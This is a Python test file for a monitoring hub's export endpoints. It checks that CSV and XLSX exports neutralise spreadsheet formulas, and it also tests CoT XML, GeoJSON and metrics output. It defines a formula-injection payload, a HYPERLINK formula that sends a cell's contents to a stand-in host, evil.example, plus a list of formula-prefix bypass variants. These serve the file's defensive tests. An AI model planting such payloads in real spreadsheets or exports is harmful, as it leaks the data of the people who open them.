"""Rows taken out: CSV and XLSX that hold no formula, CoT that is XML, metrics, GeoJSON."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from xml.etree import ElementTree as ET

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st

from central.exports import csv_chunks, harmless, xlsx
from central.hub import Hub
from central.places import Place
from central.web import create_app
from contract.words import Presence
from tests.central.kit import Central, Station, a_health, settings
from tests.central.signing import client_as
from tests.samples import a_detection

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


@pytest.fixture
def client(central: Central, van: Station) -> Iterator[httpx.Client]:
    central.take(van.state_topic, van.state(Presence.ONLINE))
    central.take(van.topic(), van.next(a_detection(subject={"ps": EVIL, "a<b>": "x\x00&]]>"})))
    central.take(van.topic(), van.next(a_health(depth=7)))
    places = {"van-1": Place(25.04, 102.71)}
    app = create_app(central.store, Hub(), settings(central.path.parent, places=places))
    with client_as(app) as made:
        yield made


@pytest.mark.parametrize(
    "text",
    [
        EVIL,
        "+1",
        "-1",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        " =1",
        "\u3000=1",
        "\uff1d1",
        "\n=1",
        "\x1f=1",
        "\u2003=1",
    ],
)
def test_a_formula_stays_text(text: str) -> None:
    assert str(harmless(text)).startswith("'")


@pytest.mark.parametrize("cell", ["a=1", "伪基站", "", 5, -5, None])
def test_what_is_no_formula_stays_as_it_is(cell: str | int | None) -> None:
    assert harmless(cell) == cell


@given(st.lists(st.lists(st.text(), min_size=2, max_size=2), max_size=5))
def test_any_text_survives_as_one_cell(rows: list[list[str]]) -> None:
    text = "".join(csv_chunks(["a", "b"], rows))
    back = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert len(back) == len(rows) + 1
    for row in back[1:]:
        assert not any(cell.lstrip().startswith(("=", "+", "-", "@")) for cell in row)


def test_a_workbook_holds_no_formula_and_no_link() -> None:
    raw = xlsx("rows", ["a"], [[EVIL], ["http://evil.example"], [3]])
    with zipfile.ZipFile(io.BytesIO(raw)) as book:
        sheet = "".join(book.read(n).decode() for n in book.namelist() if "xl/" in n)
    assert "<f>" not in sheet
    assert "<hyperlink" not in sheet
    assert "'=HYPERLINK" in sheet


@pytest.mark.parametrize("form", ["csv", "xlsx"])
@pytest.mark.parametrize("what", ["alerts", "devices", "audit"])
def test_each_export_is_a_file_and_audited(
    client: httpx.Client, central: Central, what: str, form: str
) -> None:
    answer = client.get(f"/api/exports/{what}.{form}")
    assert answer.status_code == 200
    assert answer.headers["content-disposition"] == f'attachment; filename="{what}.{form}"'
    row = central.store.audit_rows(1)[0]
    assert (row.action, row.subject) == ("export", what)
    if form == "csv":
        rows = list(csv.DictReader(io.StringIO(answer.text.removeprefix("\ufeff"))))
        assert len(rows) >= 1
        assert what != "alerts" or "=HYPERLINK" in rows[0]["subject"]


def test_an_alert_with_a_position_is_a_cot_event(client: httpx.Client) -> None:
    event = ET.fromstring(client.get("/api/alerts/1/cot").text)
    point = event.find("point")
    assert point is not None
    assert (point.get("lat"), point.get("lon"), point.get("ce")) == (
        "25.0400000",
        "102.7100000",
        "5000.0",
    )
    assert (event.get("type"), event.get("uid")) == ("a-u-G-E-S", "urn:qianshao:alert:demo:1")
    link = event.find("detail/link")
    assert link is not None
    assert link.get("relation") == "p-p"
    assert str(event.get("stale")) > str(event.get("start"))
    assert "\x00" not in str(event.findtext("detail/remarks"))
    everything = ET.fromstring(client.get("/api/cot").text.encode())
    assert len(everything) == 1


def test_without_a_position_there_is_no_event(central: Central, van: Station) -> None:
    central.take(van.topic(), van.next(a_detection()))
    with client_as(create_app(central.store, Hub(), settings(central.path.parent))) as client:
        assert client.get("/api/alerts/1/cot").status_code == 404
        items = client.get("/api/features/collections/alerts/items").json()
        assert items["features"] == []


def test_features_say_how_their_position_is_known(client: httpx.Client) -> None:
    path = "/api/features/collections/alerts/items"
    answer = client.get(path)
    assert answer.headers["content-type"] == "application/geo+json"
    feature = answer.json()["features"][0]
    assert feature["geometry"] == {"type": "Point", "coordinates": [102.71, 25.04]}
    assert feature["properties"]["position"] == "station"
    assert client.get(path, params={"bbox": "100,20,110,30"}).json()["numberReturned"] == 1
    assert client.get(path, params={"bbox": "110,20,100,30"}).json()["numberReturned"] == 0
    assert client.get(path, params={"bbox": "170,20,110,30"}).json()["numberReturned"] == 1
    assert client.get(path, params={"bbox": "200,0,1,1"}).status_code == 422


def test_a_position_in_the_subject_wins(central: Central, van: Station) -> None:
    where = {"lat": 25.1, "lon": 102.8, "radius_m": 240.0}
    central.take(van.topic(), van.next(a_detection(subject=where)))
    with client_as(create_app(central.store, Hub(), settings(central.path.parent))) as client:
        feature = client.get("/api/features/collections/alerts/items").json()["features"][0]
        assert feature["properties"]["position"] == "emitter"
        assert 'ce="240.0"' in client.get("/api/alerts/1/cot").text


def test_metrics_are_prometheus_text(client: httpx.Client) -> None:
    answer = client.get("/api/metrics")
    assert answer.headers["content-type"].startswith("text/plain; version=0.0.4")
    lines = answer.text.splitlines()
    assert "qianshao_central_alerts_total 1" in lines
    assert 'qianshao_device_online{device="van-1"} 1' in lines
    assert 'qianshao_device_outbox_messages{device="van-1"} 7' in lines
    assert all(line.startswith(("# HELP ", "# TYPE ", "qianshao_")) for line in lines)
